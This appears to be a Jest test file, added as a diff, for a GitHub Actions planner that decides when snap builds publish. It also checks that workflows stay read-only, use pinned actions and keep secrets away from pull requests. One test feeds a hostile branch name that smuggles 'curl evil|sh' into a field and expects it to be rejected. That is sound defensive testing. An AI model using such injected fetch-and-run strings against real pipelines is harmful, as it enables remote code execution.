@@ -1,0 +1,187 @@
+import { describe, expect, it } from '@jest/globals';
+import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { parse } from 'yaml';
+import { ConfigurationError } from '../src/errors.js';
+import { planPipeline, type PipelineEvent } from '../src/pipeline-plan.js';
+import { ROOT, tempDir } from './helpers/fixtures.js';
+import { runBundle } from './helpers/run-action.js';
+
+const base: PipelineEvent = { eventName: 'push', refName: 'master', fork: false };
+
+describe('the pipeline decides', () => {
+  it.each<[string, Partial<PipelineEvent>, { ref: string; checkout: string; publish: boolean }]>([
+    [
+      'a pull request builds against its base, never publishes',
+      { eventName: 'pull_request', refName: '12/merge', baseRef: 'stable/2025.1' },
+      { ref: 'stable/2025.1', checkout: '', publish: false },
+    ],
+    [
+      'pull_request_target never publishes either',
+      { eventName: 'pull_request_target', refName: 'master', baseRef: 'master' },
+      { ref: 'master', checkout: '', publish: false },
+    ],
+    ['a push to master publishes', {}, { ref: 'master', checkout: '', publish: true }],
+    [
+      'a push to stable/<series> publishes',
+      { refName: 'stable/2025.1' },
+      { ref: 'stable/2025.1', checkout: '', publish: true },
+    ],
+    [
+      'a push to unmaintained/<series> publishes',
+      { refName: 'unmaintained/2024.1' },
+      { ref: 'unmaintained/2024.1', checkout: '', publish: true },
+    ],
+    [
+      'a push to a feature branch builds only',
+      { refName: 'feature/uwsgi' },
+      { ref: 'feature/uwsgi', checkout: '', publish: false },
+    ],
+    [
+      'a push in a fork never publishes',
+      { fork: true },
+      { ref: 'master', checkout: '', publish: false },
+    ],
+    [
+      'a scheduled run on master publishes',
+      { eventName: 'schedule' },
+      { ref: 'master', checkout: '', publish: true },
+    ],
+    [
+      'a dispatch rebuilds and publishes the branch it names',
+      { eventName: 'workflow_dispatch', inputs: { branch: 'stable/2024.1' } },
+      { ref: 'stable/2024.1', checkout: 'stable/2024.1', publish: true },
+    ],
+    [
+      'a dispatch may ask not to publish',
+      { eventName: 'workflow_dispatch', inputs: { branch: 'stable/2024.1', publish: false } },
+      { ref: 'stable/2024.1', checkout: 'stable/2024.1', publish: false },
+    ],
+    [
+      'a dispatch in a fork never publishes',
+      { eventName: 'workflow_dispatch', fork: true },
+      { ref: 'master', checkout: 'master', publish: false },
+    ],
+    [
+      'a dispatch of a non-release branch builds only',
+      { eventName: 'workflow_dispatch', inputs: { branch: 'feature/x' } },
+      { ref: 'feature/x', checkout: 'feature/x', publish: false },
+    ],
+  ])('%s', (_name, event, expected) => {
+    expect(planPipeline({ ...base, ...event })).toMatchObject(expected);
+  });
+
+  it('refuses other events and hostile branch names', () => {
+    expect(() => planPipeline({ ...base, eventName: 'issue_comment' })).toThrow(
+      /does not run for 'issue_comment' events/,
+    );
+    expect(() =>
+      planPipeline({
+        ...base,
+        eventName: 'workflow_dispatch',
+        inputs: { branch: 'stable/x;curl evil|sh' },
+      }),
+    ).toThrow(ConfigurationError);
+  });
+
+  it('runs from its bundle, reading the fork flag from the event payload', async () => {
+    const event = join(tempDir(), 'event.json');
+    writeFileSync(event, JSON.stringify({ repository: { fork: true } }));
+    const run = await runBundle(
+      'plan',
+      {},
+      { GITHUB_EVENT_NAME: 'push', GITHUB_REF_NAME: 'stable/2025.1', GITHUB_EVENT_PATH: event },
+    );
+    expect(run.status).toBe(0);
+    expect(run.outputs).toEqual({
+      ref: 'stable/2025.1',
+      checkout: '',
+      publish: 'false',
+      reason: 'forks never publish',
+    });
+  });
+});
+
+interface Job {
+  permissions?: Record<string, string>;
+  if?: string;
+  needs?: string | string[];
+  steps?: {
+    uses?: string;
+    run?: string;
+    with?: Record<string, unknown>;
+    env?: Record<string, unknown>;
+  }[];
+  uses?: string;
+  secrets?: unknown;
+}
+interface Workflow {
+  on: Record<string, unknown>;
+  permissions?: Record<string, string>;
+  jobs: Record<string, Job>;
+}
+const workflowFiles = [
+  ...readdirSync(join(ROOT, '.github/workflows')).map((f) => join('.github/workflows', f)),
+  ...readdirSync(join(ROOT, 'examples/workflows')).map((f) => join('examples/workflows', f)),
+];
+const load = (file: string) => ({
+  text: readFileSync(join(ROOT, file), 'utf8'),
+  yaml: parse(readFileSync(join(ROOT, file), 'utf8')) as Workflow,
+});
+
+describe('workflows follow the house rules', () => {
+  it.each(workflowFiles)(
+    '%s: read-only by default, pinned, no event data in run:, no pull_request_target',
+    (file) => {
+      const { yaml } = load(file);
+      expect(yaml.permissions).toEqual({ contents: 'read' });
+      expect(Object.keys(yaml.on)).not.toContain('pull_request_target');
+      for (const [name, job] of Object.entries(yaml.jobs)) {
+        for (const [scope, level] of Object.entries(job.permissions ?? {})) {
+          // The only write scope anywhere: the release job moving the major tag.
+          if (level === 'write')
+            expect(`${file}:${name}:${scope}`).toBe(
+              '.github/workflows/release.yml:release:contents',
+            );
+        }
+        for (const step of job.steps ?? []) {
+          if (step.uses && !step.uses.startsWith('./')) {
+            expect(step.uses).toMatch(
+              /^(actions\/[\w-]+@[0-9a-f]{40}|openstack-snap-actions\/openstack-snap-actions\/actions\/\w[\w-]*@v0)$/,
+            );
+          }
+          if (step.run) expect(step.run).not.toContain('${{');
+        }
+      }
+    },
+  );
+
+  const snap = load('.github/workflows/snap.yml');
+  it('snap.yml: only the publish job sees the store credentials, and only when the plan says publish', () => {
+    for (const [name, job] of Object.entries(snap.yaml.jobs)) {
+      const uses = JSON.stringify(job);
+      if (name === 'publish') {
+        expect(uses).toContain('secrets.SNAPCRAFT_STORE_CREDENTIALS');
+        expect(job.if).toMatch(/needs\.plan\.outputs\.publish == 'true'/);
+        expect(job.if).toMatch(/needs\.build\.result == 'success'/);
+      } else {
+        expect(uses).not.toContain('secrets.');
+      }
+    }
+  });
+
+  it('snap.yml: every arch is its own status check and "results" sums them up even when one fails', () => {
+    expect(snap.yaml.jobs.build!.if).toBe("needs.plan.outputs.has-builds == 'true'");
+    expect(JSON.stringify(snap.yaml.jobs.build)).toContain('fromJSON(needs.plan.outputs.matrix)');
+    expect(snap.yaml.jobs.results!.if).toBe('always()');
+    expect(snap.yaml.jobs.results!.needs).toEqual(['plan', 'build']);
+  });
+
+  it('the example snap repo hands no secrets to pull requests', () => {
+    const example = load('examples/workflows/snap-repo.yml');
+    expect(example.text).toContain(
+      "github.event_name != 'pull_request' && secrets.SNAPCRAFT_STORE_CREDENTIALS || ''",
+    );
+    expect(example.yaml.jobs.snap!.uses).toMatch(/\.github\/workflows\/snap\.yml@v0$/);
+  });
+});
